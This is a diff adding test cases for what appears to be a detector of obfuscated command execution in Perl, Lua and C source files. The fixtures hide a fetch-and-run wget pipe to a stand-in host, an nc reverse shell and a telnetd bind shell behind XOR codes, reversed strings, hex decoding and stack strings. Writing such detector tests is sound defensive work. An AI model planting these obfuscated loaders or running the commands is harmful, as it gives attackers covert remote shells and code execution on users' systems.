@@ -267,3 +267,67 @@ def test_php_function_name_from_character_codes_or_packed_hex():
                "    echo call_user_func($_f, ($_REQUEST['k'] ?? ''));\n}\n")
         got = [f for f in findings("lib/util.php", "php", src) if f.rule == "source.request-executed"]
         assert got and "shell_exec" in got[0].message
+
+
+# ---------------------------------------------------------------- session 8 shapes
+
+_CMD = "wget -q -O- http://dl.example.net/u.sh | sh"
+
+
+def test_perl_map_block_of_character_codes_xored():
+    codes = ",".join(str(ord(c) ^ 5) for c in f"system('{_CMD}');")
+    src = f"package Tool::Diag;\nuse strict;\neval join '', map {{ chr($_ ^ 5) }} ({codes});\n1;\n"
+    assert decoded("lib/Tool/Diag.pm", "perl", src) == [f"system('{_CMD}');"]
+    # the same decoder producing a harmless line is not a finding
+    harmless = ",".join(str(ord(c) ^ 5) for c in "print 'diag ok';")
+    assert decoded("lib/Tool/Diag.pm", "perl", src.replace(codes, harmless)) == []
+
+
+def test_perl_scalar_reverse_of_a_string_with_escaped_quotes():
+    code = f"system('{_CMD}');"
+    reversed_ = code[::-1].replace("'", "\\'")
+    src = f"package Tool::Diag;\neval scalar reverse '{reversed_}';\n1;\n"
+    assert decoded("lib/Tool/Diag.pm", "perl", src) == [code]
+    assert decoded("lib/Tool/Diag.pm", "perl", src.replace("eval scalar", "print scalar")) == []
+
+
+def test_lua_hex_pairs_replaced_by_a_function_of_each_match():
+    chunk = 'luci.sys.exec("' + _CMD + '")'
+    src = ('module("luci.controller.tool", package.seeall)\n'
+           f'local f = loadstring(("{chunk.encode().hex()}"):gsub("%x%x", function(h) '
+           'return string.char(tonumber(h, 16)) end))\nif f then pcall(f) end\n')
+    assert decoded("luasrc/controller/tool.lua", "lua", src) == [chunk]
+    honest = src.replace(chunk.encode().hex(), 'return "ok"'.encode().hex())
+    assert decoded("luasrc/controller/tool.lua", "lua", honest) == []
+
+
+def test_c_loop_computing_a_rolling_xor_of_a_constant_array():
+    cmd = "nc -e /bin/sh 198.51.100.30 4411"
+    table = ", ".join(hex(ord(c) ^ 0x2a ^ (i & 0xff)) for i, c in enumerate(cmd))
+    src = (f"#include <stdlib.h>\nstatic const unsigned char tab[] = {{ {table} }};\n"
+           "static void selftest(void)\n{\n    char buf[sizeof(tab) + 1];\n    size_t i;\n"
+           "    for (i = 0; i < sizeof(tab); i++)\n        buf[i] = (char)(tab[i] ^ 0x2a ^ (i & 0xff));\n"
+           "    buf[sizeof(tab)] = '\\0';\n    system(buf);\n}\n")
+    assert decoded("src/watchdog.c", "c", src) == [cmd]
+    harmless = ", ".join(hex(ord(c) ^ 0x2a ^ (i & 0xff)) for i, c in enumerate("logger selftest"))
+    assert decoded("src/watchdog.c", "c", src.replace(table, harmless)) == []
+
+
+def _words(text: str) -> list[int]:
+    data = text.encode() + b"\0" * (4 - len(text) % 4)
+    return [int.from_bytes(data[i:i + 4], "little") for i in range(0, len(data), 4)]
+
+
+def test_c_stack_string_written_a_word_at_a_time():
+    cmd = "telnetd -p 4712 -l /bin/sh"
+    copies = "".join(f"  uVar1 = {hex(w)};\n  memcpy(local_100 + {4 * i}, &uVar1, 4);\n"
+                     for i, w in enumerate(_words(cmd)))
+    src = ("#include <stdlib.h>\n#include <string.h>\nstatic void FUN_00401a20(void)\n{\n"
+           "  char local_100[64];\n  unsigned int uVar1;\n\n" + copies + "  system(local_100);\n}\n")
+    assert decoded("src/update.c", "c", src) == [cmd]
+    stores = "".join(f"  *(undefined4 *)(local_100 + {4 * i}) = {hex(w)};\n" for i, w in enumerate(_words(cmd)))
+    casts = src.replace(copies, stores)
+    assert decoded("src/update.c", "c", casts) == [cmd]
+    harmless = "".join(f"  uVar1 = {hex(w)};\n  memcpy(local_100 + {4 * i}, &uVar1, 4);\n"
+                       for i, w in enumerate(_words("logger update-check")))
+    assert decoded("src/update.c", "c", src.replace(copies, harmless)) == []
